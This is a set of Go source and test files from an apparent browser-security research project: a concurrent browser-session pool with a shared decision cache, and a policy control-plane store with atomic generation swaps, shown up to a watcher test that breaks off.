		}); err != nil {
			t.Fatal(err)
		}
	}
	pool.Wait()
	if ran.Load() != tasks {
		t.Fatalf("ran %d tasks, want %d", ran.Load(), tasks)
	}
	st := pool.Stats()
	if st.Tasks != tasks {
		t.Fatalf("stats counted %d tasks, want %d", st.Tasks, tasks)
	}
	if len(st.Errors) > 0 {
		t.Fatalf("errors: %v", st.Errors)
	}
	if st.P99 < st.P50 {
		t.Fatalf("p99 %v < p50 %v", st.P99, st.P50)
	}

	pool.Close()
	if err := pool.Submit(func(*Session) error { return nil }); err != ErrClosed {
		t.Fatalf("submit after close: %v, want ErrClosed", err)
	}
	pool.Close() // idempotent
}

func TestPoolTaskErrorsAreReported(t *testing.T) {
	net, _ := benchNet(t)
	pool, err := NewPool(Config{Sessions: 2, Network: net})
	if err != nil {
		t.Fatal(err)
	}
	defer pool.Close()
	boom := fmt.Errorf("boom")
	pool.Submit(func(*Session) error { return boom })
	pool.Wait()
	st := pool.Stats()
	if len(st.Errors) != 1 || !strings.Contains(st.Errors[0].Error(), "boom") {
		t.Fatalf("errors = %v, want one wrapping boom", st.Errors)
	}
}

func TestPoolUncachedBaseline(t *testing.T) {
	net, o := benchNet(t)
	pool, err := NewPool(Config{Sessions: 2, Network: net, Uncached: true})
	if err != nil {
		t.Fatal(err)
	}
	defer pool.Close()
	if pool.Cache() != nil {
		t.Fatal("Uncached pool still has a cache")
	}
	pool.Each(func(s *Session) error {
		_, err := s.Browser.Navigate(o.URL("/s1"))
		return err
	})
	st := pool.Stats()
	if len(st.Errors) > 0 {
		t.Fatalf("errors: %v", st.Errors)
	}
	if st.Cache.Hits != 0 || st.Cache.Misses != 0 {
		t.Fatalf("uncached pool reported cache traffic: %+v", st.Cache)
	}
}

func TestPoolResetStatsKeepsCacheWarm(t *testing.T) {
	net, o := benchNet(t)
	pool, err := NewPool(Config{Sessions: 2, Network: net})
	if err != nil {
		t.Fatal(err)
	}
	defer pool.Close()
	// Navigate twice: the first load only receives the session cookie,
	// the second attaches it and produces use decisions.
	pool.Each(func(s *Session) error {
		for i := 0; i < 2; i++ {
			if _, err := s.Browser.Navigate(o.URL("/s3")); err != nil {
				return err
			}
		}
		return nil
	})
	before := pool.Stats()
	if before.Tasks == 0 || before.Decisions == 0 {
		t.Fatalf("warmup recorded nothing: %+v", before)
	}
	pool.ResetStats()
	after := pool.Stats()
	if after.Tasks != 0 || after.Decisions != 0 || len(after.Errors) != 0 {
		t.Fatalf("ResetStats left residue: %+v", after)
	}
	if after.Cache.Entries == 0 {
		t.Fatal("ResetStats cleared the shared cache; it must stay warm")
	}
}

// TestPoolModeSOPStillWorks runs the pool with the legacy monitor to
// cover the second Mode path through the cached monitor construction.
func TestPoolModeSOPStillWorks(t *testing.T) {
	net, o := benchNet(t)
	pool, err := NewPool(Config{
		Sessions: 2,
		Network:  net,
		Options:  browser.Options{Mode: browser.ModeSOP},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer pool.Close()
	pool.Each(func(s *Session) error {
		_, err := s.Browser.Navigate(o.URL("/s1"))
		return err
	})
	if st := pool.Stats(); len(st.Errors) > 0 {
		t.Fatalf("errors: %v", st.Errors)
	}
}

// TestPoolSharedCacheInvalidation checks a policy flip mid-run: after
// Invalidate the pool keeps answering correctly and repopulates.
func TestPoolSharedCacheInvalidation(t *testing.T) {
	net, o := benchNet(t)
	cache := core.NewDecisionCache()
	pool, err := NewPool(Config{Sessions: 4, Network: net, Cache: cache})
	if err != nil {
		t.Fatal(err)
	}
	defer pool.Close()

	nav := func(s *Session) error {
		for i := 0; i < 2; i++ {
			if _, err := s.Browser.Navigate(o.URL("/s4")); err != nil {
				return err
			}
		}
		return nil
	}
	pool.Each(nav)
	warm := cache.Stats()
	if warm.Entries == 0 {
		t.Fatal("no cache entries after warmup")
	}
	cache.Invalidate()
	pool.Each(nav)
	st := pool.Stats()
	if len(st.Errors) > 0 {
		t.Fatalf("errors after invalidation: %v", st.Errors)
	}
	if got := cache.Stats(); got.Entries == 0 {
		t.Fatal("cache did not repopulate after invalidation")
	}
}

func BenchmarkPoolNavigate(b *testing.B) {
	net, o := benchNet(b)
	pool, err := NewPool(Config{Sessions: 8, Network: net})
	if err != nil {
		b.Fatal(err)
	}
	defer pool.Close()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		pool.Submit(func(s *Session) error {
			_, err := s.Browser.Navigate(o.URL("/s3"))
			return err
		})
	}
	pool.Wait()
}

// TestPoolRunsDelegatedSessions mounts the §7 delegation monitor into
// every pooled session via browser.Options.MonitorFactory: the widget
// renders into its delegated slot across all sessions while its
// overreach is denied, and the shared decision cache keeps working
// under the re-homed queries.
func TestPoolRunsDelegatedSessions(t *testing.T) {
	net := web.NewNetwork()
	portal := origin.MustParse("http://portal.example")
	widget := origin.MustParse("http://widget.example")
	net.Register(portal, web.HandlerFunc(func(req *web.Request) *web.Response {
		resp := web.HTML(`<html><body>` +
			`<div ring=1 r=1 w=1 x=1 id=chrome>portal chrome</div>` +
			`<div ring=2 r=2 w=2 x=2 id=slot>loading</div>` +
			`</body></html>`)
		resp.Header.Set(core.HeaderMaxRing, "3")
		return resp
	}))

	pol := mashup.NewPolicy()
	pol.Delegate(mashup.Delegation{Host: portal, Guest: widget, Floor: 2})
	cache := core.NewDecisionCache()
	pool, err := NewPool(Config{
		Sessions: 4,
		Network:  net,
		Cache:    cache,
		Options: browser.Options{
			Mode: browser.ModeEscudo,
			MonitorFactory: func(browser.PageRef) core.Monitor {
				return core.Compose(&core.ERM{}, core.WithCache(cache), core.WithDelegations(pol))
			},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer pool.Close()

	pool.Each(func(s *Session) error {
		p, err := s.Browser.Navigate(portal.URL("/"))
		if err != nil {
			return err
		}
		if err := p.RunScriptAs(core.Principal(widget, 0, "widget"),
			`document.getElementById("slot").innerHTML = "rendered";`); err != nil {
			return fmt.Errorf("delegated slot write denied: %w", err)
		}
		if err := p.RunScriptAs(core.Principal(widget, 0, "widget"),
			`document.getElementById("chrome").innerHTML = "pwned";`); err == nil {
			return fmt.Errorf("floored guest rewrote ring-1 chrome")
		}
		return nil
	})
	st := pool.Stats()
	if len(st.Errors) > 0 {
		t.Fatalf("errors: %v", st.Errors)
	}
	if st.Decisions == 0 {
		t.Fatal("no decisions audited across the pool")
	}
	denials := 0
	for _, s := range pool.Sessions() {
		denials += len(s.Browser.Audit.Denials())
	}
	if denials < 4 {
		t.Fatalf("denials = %d, want at least one per session", denials)
	}
	if cs := cache.Stats(); cs.Hits == 0 {
		t.Fatalf("shared cache unused under delegation: %+v", cs)
	}
}
