// Package engine runs many independent browser sessions concurrently
// against one in-memory web substrate. It is the scaffolding for the
// production-scale goal: each session owns its own browser.Browser
// (cookie jar, history, audit log, DOM state), all sessions share one
// web.Network of server applications and one core.DecisionCache, and
// a task queue spreads work across the sessions. The reference monitor
// stays the single chokepoint per page; the pool makes the chokepoints
// run in parallel with a shared memo of verdicts.
package engine

import (
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/browser"
	"repro/internal/core"
	"repro/internal/metrics"
	"repro/internal/obs"
	"repro/internal/web"
)

// Config configures a Pool.
type Config struct {
	// Sessions is the number of concurrent sessions (default 8).
	Sessions int
	// Network is the shared in-memory web substrate. It is required
	// unless Transport is set.
	Network *web.Network
	// Transport, when non-nil, is the substrate the sessions fetch
	// through instead of Network — e.g. an httpd.ClientTransport
	// speaking real HTTP to a gateway over loopback. Exactly the same
	// sessions, tasks, and stats run either way; only the carrier
	// changes.
	Transport web.Transport
	// Options is the per-browser configuration. Options.Cache is
	// overridden with the pool's shared cache unless Uncached is set.
	Options browser.Options
	// Cache is the shared decision cache; nil allocates a fresh one.
	Cache *core.DecisionCache
	// Uncached disables the shared decision cache (baseline runs).
	Uncached bool
	// QueueDepth is the task queue capacity (default 4×Sessions).
	QueueDepth int
	// Stages, when non-nil, enables latency attribution: every task
	// runs with a per-session obs.StageClock installed on its browser,
	// and finished clocks fold into the set's per-stage histograms.
	// Timing never changes decisions (invariant 9).
	Stages *obs.StageSet
	// Slow, when non-nil, retains the slowest tasks per phase (see
	// SetPhase) as trace-ID-keyed exemplars. Requires Stages.
	Slow *obs.SlowRing
}

// Session is one concurrent browsing session: an execution slot with
// its own browser.
type Session struct {
	// ID numbers the session within its pool, 0-based.
	ID int
	// Browser is the session's private browser.
	Browser *browser.Browser

	// Latency is folded straight into a bucketed histogram plus a
	// running sum and max instead of an append-per-task sample slice:
	// record is on the per-request hot path and must not allocate in
	// steady state (the histogram's counts slice reaches full capacity
	// once and stays there). Percentiles come from the histogram —
	// which is also what the cluster plane merges across processes, so
	// single- and multi-process numbers are computed the same way.
	hist   metrics.Histogram
	latSum time.Duration
	latMax time.Duration
	done   uint64
	errs   []error
	mu     sync.Mutex

	// clock is the session's reusable stage clock (nil when the pool
	// runs without latency attribution). One task runs on a session at
	// a time, so resetting between tasks is race-free.
	clock *obs.StageClock
}

// record logs one task execution on this session. Only the session's
// worker goroutine calls it during a run; the mutex makes Stats safe
// to call concurrently anyway.
func (s *Session) record(d time.Duration, err error) {
	s.mu.Lock()
	s.hist.Observe(d)
	s.latSum += d
	if d > s.latMax {
		s.latMax = d
	}
	s.done++
	if err != nil {
		s.errs = append(s.errs, fmt.Errorf("session %d: %w", s.ID, err))
	}
	s.mu.Unlock()
}

// Task is one unit of work executed on a session.
type Task func(s *Session) error

// Pool runs tasks across a fixed set of sessions.
type Pool struct {
	cfg      Config
	cache    *core.DecisionCache
	sessions []*Session
	tasks    chan Task
	pending  sync.WaitGroup
	workers  sync.WaitGroup
	closed   bool
	mu       sync.Mutex
	// batchBase is the batch-counter snapshot taken at the last
	// ResetStats, so Stats reports per-phase deltas of the batched
	// authorization counters.
	batchBase core.BatchStats
	// phase labels the workload currently running, for the slow-ring's
	// per-phase exemplar retention. Swapped via SetPhase between
	// benchmark phases; read per task completion.
	phase atomic.Pointer[string]
}

// ErrClosed reports a submit to a closed pool.
var ErrClosed = errors.New("engine: pool closed")

// NewPool builds the sessions and starts one worker goroutine per
// session, each consuming from a shared queue.
func NewPool(cfg Config) (*Pool, error) {
	if cfg.Transport == nil {
		if cfg.Network == nil {
			return nil, errors.New("engine: Config.Network or Config.Transport is required")
		}
		cfg.Transport = cfg.Network
	}
	if cfg.Sessions <= 0 {
		cfg.Sessions = 8
	}
	if cfg.QueueDepth <= 0 {
		cfg.QueueDepth = 4 * cfg.Sessions
	}
	p := &Pool{cfg: cfg}
	if !cfg.Uncached {
		p.cache = cfg.Cache
		if p.cache == nil {
			p.cache = core.NewDecisionCache()
		}
	}
	p.tasks = make(chan Task, cfg.QueueDepth)
	p.batchBase = core.ReadBatchStats()
	for i := 0; i < cfg.Sessions; i++ {
		opts := cfg.Options
		opts.Cache = p.cache
		s := &Session{ID: i, Browser: browser.New(cfg.Transport, opts)}
		if cfg.Stages != nil {
			s.clock = obs.NewStageClock()
		}
		p.sessions = append(p.sessions, s)
		p.workers.Add(1)
		go p.work(s)
	}
	return p, nil
}

// SetPhase labels the workload about to run; the slow-ring retains
// exemplars per phase label.
func (p *Pool) SetPhase(name string) { p.phase.Store(&name) }

// Phase returns the current workload label ("" before SetPhase).
func (p *Pool) Phase() string {
	if s := p.phase.Load(); s != nil {
		return *s
	}
	return ""
}

// runTask executes one task on a session with its full observability
// harness: a fresh trace, the session's stage clock (when attribution
// is on), wall-clock recording, and — for timed pools — the clock
// folded into the per-stage histograms and the task offered to the
// slow-ring as an exemplar keyed by its trace ID.
func (p *Pool) runTask(s *Session, t Task) {
	s.Browser.SetTrace(obs.NewTrace())
	if s.clock != nil {
		s.clock.Reset()
		s.Browser.SetStageClock(s.clock)
	}
	start := time.Now()
	err := t(s)
	d := time.Since(start)
	s.record(d, err)
	if s.clock != nil {
		s.Browser.SetStageClock(nil)
		p.cfg.Stages.Record(s.clock)
		p.cfg.Slow.Record(p.Phase(), s.Browser.Trace().ID(), d, s.clock.Snapshot())
	}
	s.Browser.SetTrace(nil)
}

// work is one session's loop: pull a task, mint its trace, run it,
// time it. The trace is the unit of provenance: every request the
// task issues and every decision its mediation produces carries this
// task's trace ID (see internal/obs).
func (p *Pool) work(s *Session) {
	defer p.workers.Done()
	for task := range p.tasks {
		p.runTask(s, task)
		p.pending.Done()
	}
}

// Cache returns the shared decision cache (nil when Uncached).
func (p *Pool) Cache() *core.DecisionCache { return p.cache }

// Sessions returns the pool's sessions (stable after NewPool).
func (p *Pool) Sessions() []*Session { return p.sessions }

// Submit enqueues a task for whichever session frees up first. It
// blocks when the queue is full, providing natural backpressure.
func (p *Pool) Submit(t Task) error {
	p.mu.Lock()
	if p.closed {
		p.mu.Unlock()
		return ErrClosed
	}
	p.pending.Add(1)
	p.mu.Unlock()
	p.tasks <- t
	return nil
}

// TrySubmit enqueues a task only if the queue has room, never
// blocking. Open-loop load generation uses it: an arrival that can't
// be admitted is a drop (overload evidence), not backpressure —
// blocking the arrival process would silently turn the open loop
// closed. Returns false when the queue is full.
func (p *Pool) TrySubmit(t Task) (bool, error) {
	p.mu.Lock()
	if p.closed {
		p.mu.Unlock()
		return false, ErrClosed
	}
	p.pending.Add(1)
	p.mu.Unlock()
	select {
	case p.tasks <- t:
		return true, nil
	default:
		p.pending.Done()
		return false, nil
	}
}

// Wait blocks until every submitted task has finished. The pool stays
// usable; more work may be submitted afterwards.
func (p *Pool) Wait() {
	p.pending.Wait()
}

// Each runs one instance of the task on every session concurrently and
// waits for all of them — the fan-out used to replay a scenario across
// the whole pool. It bypasses the shared queue so each instance is
// pinned to its session.
func (p *Pool) Each(t Task) {
	var wg sync.WaitGroup
	for _, s := range p.sessions {
		wg.Add(1)
		go func(s *Session) {
			defer wg.Done()
			p.runTask(s, t)
		}(s)
	}
	wg.Wait()
}

// Close drains the queue and stops the workers. Further submits fail
// with ErrClosed.
func (p *Pool) Close() {
	p.mu.Lock()
	if p.closed {
		p.mu.Unlock()
		return
	}
	p.closed = true
	p.mu.Unlock()
	p.pending.Wait()
	close(p.tasks)
	p.workers.Wait()
}

// Stats summarizes a run across all sessions.
type Stats struct {
	// Sessions is the pool size.
	Sessions int
	// Tasks counts completed task executions (Submit and Each).
	Tasks uint64
	// Errors collects task errors in session order.
	Errors []error
	// P50, P99, Mean, Max summarize per-task wall-clock latency. The
	// percentiles are computed from Hist (bucket upper bounds, ≤12.5%
	// relative error) — the same arithmetic the cluster supervisor
	// applies to merged shards, so single- and multi-process reports
	// are directly comparable. Mean and Max are exact.
	P50, P99, Mean, Max time.Duration
	// Hist is the bucketed form of the same latencies. Unlike point
	// percentiles it can be merged across processes — the cluster
	// supervisor sums per-worker histograms to compute fleet-wide
	// p50/p99.
	Hist metrics.Histogram
	// Decisions counts reference-monitor decisions recorded by every
	// session's audit log.
	Decisions uint64
	// GenMix folds every session's per-page policy-generation audit
	// (core.AuditLog.GenerationMix): after a live flip, Generations ≥ 2
	// and Mixed must still be 0 — no page load saw two generations.
	GenMix core.GenerationMix
	// Cache snapshots the shared decision cache (zero when Uncached).
	Cache core.CacheStats
	// Batch is the delta of the batched-authorization counters since
	// the last ResetStats: how many DOM nodes were authorized through
	// the batched path vs. how many distinct decisions were actually
	// computed. (The counters are process-wide, so run one pool at a
	// time when reading them.)
	Batch core.BatchStats
}

// Stats merges every session's measurements. Call it after Wait (or
// between phases); calling mid-flight is safe but yields a torn
// snapshot.
func (p *Pool) Stats() Stats {
	st := Stats{Sessions: len(p.sessions)}
	var sum time.Duration
	for _, s := range p.sessions {
		s.mu.Lock()
		st.Tasks += s.done
		st.Errors = append(st.Errors, s.errs...)
		st.Hist.Merge(s.hist)
		sum += s.latSum
		if s.latMax > st.Max {
			st.Max = s.latMax
		}
		s.mu.Unlock()
		st.Decisions += uint64(s.Browser.Audit.Len())
		st.GenMix = st.GenMix.Add(s.Browser.Audit.GenerationMix())
	}
	st.P50 = st.Hist.Quantile(50)
	st.P99 = st.Hist.Quantile(99)
	if st.Tasks > 0 {
		st.Mean = sum / time.Duration(st.Tasks)
	}
	if p.cache != nil {
		st.Cache = p.cache.Stats()
	}
	p.mu.Lock()
	base := p.batchBase
	p.mu.Unlock()
	st.Batch = core.ReadBatchStats().Sub(base)
	return st
}

// ResetStats clears per-session latency samples, task counts, errors,
// and audit logs, so each benchmark phase starts from zero. The shared
// decision cache is left warm (its counters are deltas via
// CacheStats.Sub).
func (p *Pool) ResetStats() {
	for _, s := range p.sessions {
		s.mu.Lock()
		// Zero the histogram in place, keeping its capacity: the full
		// backing array is cleared (not just the live prefix) so counts
		// beyond a later reslice cannot resurface.
		full := s.hist.Counts[:cap(s.hist.Counts)]
		clear(full)
		s.hist.Counts = full[:0]
		s.latSum = 0
		s.latMax = 0
		s.done = 0
		s.errs = nil
		s.mu.Unlock()
		s.Browser.Audit.Reset()
	}
	p.mu.Lock()
	p.batchBase = core.ReadBatchStats()
	p.mu.Unlock()
}
