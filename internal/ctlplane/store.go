// Package ctlplane is the policy control plane: the piece that lets a
// running deployment *change* its per-origin escudo.Policy documents
// without a restart and without ever letting a mid-flight page load
// observe two policy generations.
//
// The design splits into two halves. Store is the authoritative side:
// an immutable snapshot of every mounted document behind an
// atomic.Pointer, advanced copy-on-write under a writer mutex, with a
// single fleet-wide generation counter that bumps on every accepted
// swap. Readers — the gateway's request path, /policyz, the document
// endpoint — load the pointer and never block. Watcher is the consumer
// side: it long-polls a gateway's admin /policyz?wait=gen endpoint
// (falling back to plain periodic polling against older gateways),
// republishes the observed generation through an atomic for sessions
// to capture at page load, and fires callbacks on each flip so the
// engine can invalidate its DecisionCache and rebuild MonitorFactory
// inputs.
//
// Enforcement never moves: the gateway still only *serves* policy; the
// browser-side reference monitors enforce it. The control plane only
// versions and distributes the documents.
package ctlplane

import (
	"context"
	"fmt"
	"sort"
	"sync"
	"sync/atomic"

	"repro/internal/obs"
	"repro/internal/policy"
)

// Entry is one origin's mounted document plus its per-origin revision
// (how many times this origin's document has been swapped; the fleet
// Generation covers all origins).
type Entry struct {
	Policy policy.Policy
	Rev    uint64
}

// Snapshot is one immutable generation of the fleet's policy state.
// Everything in it is read-only after publication; a new swap builds a
// fresh Snapshot and retires this one.
type Snapshot struct {
	// Gen is the fleet generation this snapshot was published at.
	Gen uint64
	// entries maps origin (canonical string form) to its document.
	entries map[string]Entry
	// changed is closed when this snapshot is retired by the next swap,
	// which is how long-poll waiters learn the generation moved without
	// any subscriber registry.
	changed chan struct{}
}

// Get returns the origin's entry.
func (s *Snapshot) Get(origin string) (Entry, bool) {
	e, ok := s.entries[origin]
	return e, ok
}

// Len is the number of mounted documents.
func (s *Snapshot) Len() int { return len(s.entries) }

// Origins lists the mounted origins sorted, for stable rendering.
func (s *Snapshot) Origins() []string {
	out := make([]string, 0, len(s.entries))
	for o := range s.entries {
		out = append(out, o)
	}
	sort.Strings(out)
	return out
}

// Each visits every entry (iteration order unspecified).
func (s *Snapshot) Each(f func(origin string, e Entry)) {
	for o, e := range s.entries {
		f(o, e)
	}
}

// Store holds the fleet's per-origin policy documents behind an
// atomic.Pointer. Reads are lock-free pointer loads; writes validate
// first, then copy-on-write the whole table and swap, so a reader
// always sees a complete, internally consistent generation — never a
// half-applied flip. The zero Store is not ready; use NewStore.
type Store struct {
	mu   sync.Mutex // serializes writers; readers never take it
	snap atomic.Pointer[Snapshot]
	// gauge, when set, mirrors the fleet generation into /varz.
	gauge atomic.Pointer[obs.Gauge]
}

// NewStore returns an empty store at generation 0.
func NewStore() *Store {
	s := &Store{}
	s.snap.Store(&Snapshot{entries: map[string]Entry{}, changed: make(chan struct{})})
	return s
}

// SetGauge mirrors every accepted swap's fleet generation into g
// (typically the gateway's escudo_policy_generation /varz gauge).
func (s *Store) SetGauge(g *obs.Gauge) {
	s.gauge.Store(g)
	if g != nil {
		g.Set(int64(s.Generation()))
	}
}

// Snapshot returns the current immutable generation.
func (s *Store) Snapshot() *Snapshot { return s.snap.Load() }

// Generation returns the fleet generation counter: it bumps on every
// accepted Set or Remove, across all origins.
func (s *Store) Generation() uint64 { return s.snap.Load().Gen }

// Get returns origin's current document and per-origin revision.
func (s *Store) Get(origin string) (policy.Policy, uint64, bool) {
	e, ok := s.snap.Load().Get(origin)
	return e.Policy, e.Rev, ok
}

// swap publishes a new table built by mutate (which edits a fresh COW
// copy) and retires the old snapshot, waking every Wait.
func (s *Store) swap(mutate func(entries map[string]Entry)) *Snapshot {
	s.mu.Lock()
	old := s.snap.Load()
	entries := make(map[string]Entry, len(old.entries)+1)
	for k, v := range old.entries {
		entries[k] = v
	}
	mutate(entries)
	next := &Snapshot{Gen: old.Gen + 1, entries: entries, changed: make(chan struct{})}
	s.snap.Store(next)
	close(old.changed)
	if g := s.gauge.Load(); g != nil {
		g.Set(int64(next.Gen))
	}
	s.mu.Unlock()
	return next
}

// Set validates doc and publishes it as origin's current document,
// bumping the fleet generation and the origin's revision. Validation
// runs strictly before the swap: an invalid document is rejected with
// the mounted table untouched at its old generation — the atomic-swap
// half of the hot-reload contract.
func (s *Store) Set(doc policy.Policy) (gen, rev uint64, err error) {
	if err := doc.Validate(); err != nil {
		return s.Generation(), 0, fmt.Errorf("ctlplane: rejecting document for %q: %w", doc.Origin, err)
	}
	next := s.swap(func(entries map[string]Entry) {
		e := entries[doc.Origin]
		rev = e.Rev + 1
		entries[doc.Origin] = Entry{Policy: doc, Rev: rev}
	})
	return next.Gen, rev, nil
}

// Remove drops origin's document (an unmount), bumping the fleet
// generation if it was present.
func (s *Store) Remove(origin string) (gen uint64, removed bool) {
	if _, ok := s.snap.Load().Get(origin); !ok {
		return s.Generation(), false
	}
	next := s.swap(func(entries map[string]Entry) {
		_, removed = entries[origin]
		delete(entries, origin)
	})
	return next.Gen, removed
}

// Wait blocks until the fleet generation exceeds after (returning the
// new generation) or ctx is done (returning the current one). It is
// the long-poll primitive behind /policyz?wait=gen: waiters park on
// the current snapshot's retirement channel, so a flip wakes them all
// with one channel close and no subscriber bookkeeping.
func (s *Store) Wait(ctx context.Context, after uint64) uint64 {
	for {
		snap := s.snap.Load()
		if snap.Gen > after {
			return snap.Gen
		}
		select {
		case <-snap.changed:
		case <-ctx.Done():
			return s.snap.Load().Gen
		}
	}
}
