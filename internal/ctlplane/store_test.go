package ctlplane

import (
	"context"
	"fmt"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/obs"
	"repro/internal/origin"
	"repro/internal/policy"
)

func testPolicy(o string, maxRing core.Ring) policy.Policy {
	return policy.New(origin.MustParse(o), maxRing)
}

func TestStoreSetGetGeneration(t *testing.T) {
	s := NewStore()
	if g := s.Generation(); g != 0 {
		t.Fatalf("fresh store at generation %d, want 0", g)
	}
	gen, rev, err := s.Set(testPolicy("http://a.example", 3))
	if err != nil {
		t.Fatalf("Set: %v", err)
	}
	if gen != 1 || rev != 1 {
		t.Fatalf("first Set: gen=%d rev=%d, want 1/1", gen, rev)
	}
	gen, rev, err = s.Set(testPolicy("http://b.example", 2))
	if err != nil {
		t.Fatalf("Set b: %v", err)
	}
	if gen != 2 || rev != 1 {
		t.Fatalf("Set b: gen=%d rev=%d, want 2/1", gen, rev)
	}
	// Re-publishing a.example bumps the fleet generation AND the
	// per-origin revision.
	gen, rev, err = s.Set(testPolicy("http://a.example", 2))
	if err != nil {
		t.Fatalf("Set a rev 2: %v", err)
	}
	if gen != 3 || rev != 2 {
		t.Fatalf("Set a rev 2: gen=%d rev=%d, want 3/2", gen, rev)
	}
	p, rev, ok := s.Get("http://a.example")
	if !ok || rev != 2 || p.MaxRing != 2 {
		t.Fatalf("Get a: ok=%v rev=%d maxring=%d, want true/2/2", ok, rev, p.MaxRing)
	}
	if n := s.Snapshot().Len(); n != 2 {
		t.Fatalf("snapshot holds %d entries, want 2", n)
	}
}

func TestStoreRejectsInvalidLeavingOldMounted(t *testing.T) {
	s := NewStore()
	good := testPolicy("http://a.example", 3)
	if _, _, err := s.Set(good); err != nil {
		t.Fatalf("Set good: %v", err)
	}
	genBefore := s.Generation()

	bad := testPolicy("http://a.example", 3)
	bad.Version = 99
	if _, _, err := s.Set(bad); err == nil {
		t.Fatal("Set accepted an invalid document")
	}
	if g := s.Generation(); g != genBefore {
		t.Fatalf("rejected swap moved the generation: %d -> %d", genBefore, g)
	}
	p, rev, ok := s.Get("http://a.example")
	if !ok || rev != 1 || p.Version != policy.Version {
		t.Fatalf("old document disturbed by rejected swap: ok=%v rev=%d version=%d", ok, rev, p.Version)
	}
}

func TestStoreRemove(t *testing.T) {
	s := NewStore()
	mustSet(t, s, testPolicy("http://a.example", 3))
	gen, removed := s.Remove("http://a.example")
	if !removed || gen != 2 {
		t.Fatalf("Remove: removed=%v gen=%d, want true/2", removed, gen)
	}
	if _, _, ok := s.Get("http://a.example"); ok {
		t.Fatal("removed origin still mounted")
	}
	if _, removed := s.Remove("http://a.example"); removed {
		t.Fatal("second Remove reported a removal")
	}
}

func TestStoreWaitWakesOnSwap(t *testing.T) {
	s := NewStore()
	mustSet(t, s, testPolicy("http://a.example", 3))

	got := make(chan uint64, 1)
	go func() {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		got <- s.Wait(ctx, 1)
	}()
	time.Sleep(10 * time.Millisecond)
	mustSet(t, s, testPolicy("http://a.example", 2))
	select {
	case g := <-got:
		if g != 2 {
			t.Fatalf("Wait returned generation %d, want 2", g)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Wait did not wake on swap")
	}

	// A wait on an already-passed generation returns immediately.
	ctx, cancel := context.WithTimeout(context.Background(), time.Second)
	defer cancel()
	if g := s.Wait(ctx, 0); g != 2 {
		t.Fatalf("immediate Wait returned %d, want 2", g)
	}

	// A wait whose context expires returns the current generation.
	short, cancel2 := context.WithTimeout(context.Background(), 20*time.Millisecond)
	defer cancel2()
	if g := s.Wait(short, 99); g != 2 {
		t.Fatalf("expired Wait returned %d, want 2", g)
	}
}

// TestStoreConcurrentSwapsAndReads hammers the COW swap under the race
// detector: readers must always observe internally consistent
// snapshots whose generation never goes backwards.
func TestStoreConcurrentSwapsAndReads(t *testing.T) {
	s := NewStore()
	mustSet(t, s, testPolicy("http://a.example", 3))

	var writers, readers sync.WaitGroup
	stop := make(chan struct{})
	var maxSeen atomic.Uint64
	for r := 0; r < 4; r++ {
		readers.Add(1)
		go func() {
			defer readers.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				snap := s.Snapshot()
				if snap.Gen < maxSeen.Load() {
					// Best-effort monotonicity probe (load/load, so only
					// flags gross regressions; the swap itself is what
					// the race detector audits).
					t.Error("snapshot generation went backwards")
					return
				}
				maxSeen.Store(snap.Gen)
				snap.Each(func(o string, e Entry) {
					if e.Policy.Origin != o {
						t.Errorf("entry key %q holds document for %q", o, e.Policy.Origin)
					}
				})
			}
		}()
	}
	for w := 0; w < 4; w++ {
		w := w
		writers.Add(1)
		go func() {
			defer writers.Done()
			for i := 0; i < 200; i++ {
				o := fmt.Sprintf("http://w%d-%d.example", w, i%8)
				mustSet(t, s, testPolicy(o, 3))
				if i%16 == 15 {
					s.Remove(o)
				}
			}
		}()
	}
	// Writers first; the readers spin until every swap has landed and
	// only then get the stop signal — stopping them before waiting on
	// them is what keeps this from deadlocking on itself.
	writers.Wait()
	close(stop)
	readers.Wait()
	// 4 writers × (200 sets + 12 removes with hits) ⇒ generation far
	// beyond the writes' floor; exact value depends on remove hits.
	if g := s.Generation(); g < 800 {
		t.Fatalf("generation %d after 800 sets", g)
	}
}

func TestStoreGaugeMirrorsGeneration(t *testing.T) {
	s := NewStore()
	reg := obs.NewRegistry()
	g := reg.Gauge("escudo_policy_generation")
	s.SetGauge(g)
	if g.Value() != 0 {
		t.Fatalf("gauge starts at %d, want 0", g.Value())
	}
	mustSet(t, s, testPolicy("http://a.example", 3))
	mustSet(t, s, testPolicy("http://b.example", 3))
	if g.Value() != 2 {
		t.Fatalf("gauge at %d after two swaps, want 2", g.Value())
	}
}

func mustSet(t *testing.T, s *Store, p policy.Policy) {
	t.Helper()
	if _, _, err := s.Set(p); err != nil {
		t.Fatalf("Set %s: %v", p.Origin, err)
	}
}
