package ctlplane_test

// The watcher tests run against a real gateway over loopback — the
// same wire a production subscriber would poll — so they live in the
// external test package (the gateway imports ctlplane).

import (
	"context"
	"encoding/json"
	"sync/atomic"
	"testing"
	"time"

	"repro/internal/core"
	"repro/internal/ctlplane"
	"repro/internal/httpd"
	"repro/internal/origin"
	"repro/internal/scenarios"
	"repro/internal/web"
)

func startGateway(t *testing.T) (*httpd.Gateway, origin.Origin) {
	t.Helper()
	n := web.NewNetwork()
	o := origin.MustParse("http://app.example")
	n.Register(o, scenarios.Handler())
	doc := scenarios.Policy(o)
	g, err := httpd.New(httpd.Config{
		Inner:   n,
		Origins: map[string]httpd.OriginConfig{o.String(): {Policy: &doc}},
	})
	if err != nil {
		t.Fatalf("httpd.New: %v", err)
	}
	if err := g.Mount(o); err != nil {
		t.Fatalf("Mount: %v", err)
	}
	if err := g.Start("127.0.0.1:0"); err != nil {
		t.Fatalf("Start: %v", err)
	}
	t.Cleanup(func() { g.Close() })
	return g, o
}

// TestWatcherObservesFlips drives a real long-poll subscription: the
// watcher syncs to the mount generation, then observes each pushed
// reload as exactly one flip, with OnFlip running after Generation()
// has advanced.
func TestWatcherObservesFlips(t *testing.T) {
	g, o := startGateway(t)

	flips := make(chan uint64, 8)
	var genAtFlip atomic.Uint64
	var w *ctlplane.Watcher
	w = ctlplane.NewWatcher(ctlplane.WatcherConfig{
		Addr:         g.Addr(),
		HoldFor:      2 * time.Second,
		PollInterval: 20 * time.Millisecond,
		OnFlip: func(gen uint64) {
